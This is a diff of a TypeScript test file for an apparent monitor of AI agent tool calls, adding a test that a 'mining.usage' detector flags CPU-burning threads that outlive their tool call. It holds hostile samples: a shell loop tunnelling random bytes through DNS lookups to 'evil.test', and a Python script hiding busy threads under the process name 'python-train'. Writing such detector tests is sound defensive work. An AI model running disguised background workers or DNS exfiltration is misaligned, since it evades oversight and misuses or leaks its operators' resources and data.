@@ -10,7 +10,7 @@ import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import type { Entry } from "../src/api/index.ts";
-import { TestHome } from "./support/home.ts";
+import { eventually, TestHome } from "./support/home.ts";
 
 const home = new TestHome();
 const heard: { readonly url: string; readonly body: string }[] = [];
@@ -37,6 +37,9 @@ before(async () => {
     join(home.root, "off.yaml"),
     `${task}detect: { canary: off, tunnel.command: off }\n`,
   );
+  // What a machine that is shared with other tests can give in a few seconds.
+  const usage = "detect: { mining.usage: { cores: 0.15, seconds: 4 } }\n";
+  writeFileSync(join(home.root, "usage.yaml"), `${task}${usage}`);
   writeFileSync(join(home.root, "kill.yaml"), `${task}respond: { agent: kill }\n`);
 });
 after(async () => {
@@ -193,6 +196,54 @@ test("dns.tunnel: names that carry bytes are found as one detector's finding", a
       getent ahosts $(head -c 25 /dev/urandom | od -An -tx1 | tr -d ' \\n').t.evil.test > /dev/null; i=$((i + 1))
     done`);
   assert.ok(names.has("dns.tunnel"), [...names].join());
+});
+
+/** Two threads that work under the name of a training, until they are ended. */
+const BURN = `import ctypes, hashlib, threading
+def work():
+    ctypes.CDLL(None).prctl(15, b"python-train", 0, 0, 0)
+    while True: hashlib.sha256(bytes(1 << 20)).digest()
+for _ in range(2): threading.Thread(target=work).start()
+`;
+
+test("mining.usage: two threads that go on when their tool call is over are found, and those of an open call are none", async () => {
+  home.write("burn.py", BURN);
+  const say = (moment: string) =>
+    `curl -s -H 'content-type: application/json' -d '{"hook_event_name":"${moment}","tool_name":"Bash","tool_use_id":"t-1","tool_input":{"command":"/usr/bin/python3 burn.py"}}' http://cofferdam.internal/tool-calls\n`;
+  const work = "/usr/bin/python3 burn.py &\nwait";
+  home.write("over.sh", `${say("PreToolUse")}${say("PostToolUse")}${work}\n`);
+  home.write("open.sh", `${say("PreToolUse")}${work}\n`);
+  const start = async (script: string): Promise<string> => {
+    const args = [
+      "run",
+      "-d",
+      "--json",
+      "--task",
+      join(home.root, "usage.yaml"),
+      "--",
+      "sh",
+      script,
+    ];
+    const { stdout, stderr, code } = await home.call(args);
+    assert.equal(code, 0, stderr);
+    return (JSON.parse(stdout) as { readonly run: string }).run;
+  };
+  const [over, open] = await Promise.all([start("over.sh"), start("open.sh")]);
+  const entriesOf = async (run: string) => (await home.log()).filter((entry) => entry.run === run);
+  const isFinding = ({ type }: Entry) => type === "finding";
+  const finding = await eventually("a finding", 90_000, async () => {
+    await new Promise((resolve) => setTimeout(resolve, 1000)); // The record is read by a program each time.
+    return (await entriesOf(over)).find(isFinding);
+  });
+  assert.equal(finding.data?.["detector"], "mining.usage");
+  assert.match(text(finding.data?.["detail"]), /^\d+\.\d cores used for \d+ s /);
+  const twin = await eventually("a busy sample of the twin", 90_000, async () => {
+    const entries = await entriesOf(open);
+    const isBusy = ({ type, data }: Entry) => type === "usage" && Number(data?.["cpu"]) > 0.15;
+    return entries.some(isBusy) ? entries : undefined;
+  });
+  assert.deepEqual(twin.filter(isFinding), []);
+  await Promise.all([home.call(["kill", over]), home.call(["kill", open])]);
 });
 
 test("benign twins: a build, a clone, tests, polling and an agent's own start make no finding", async () => {
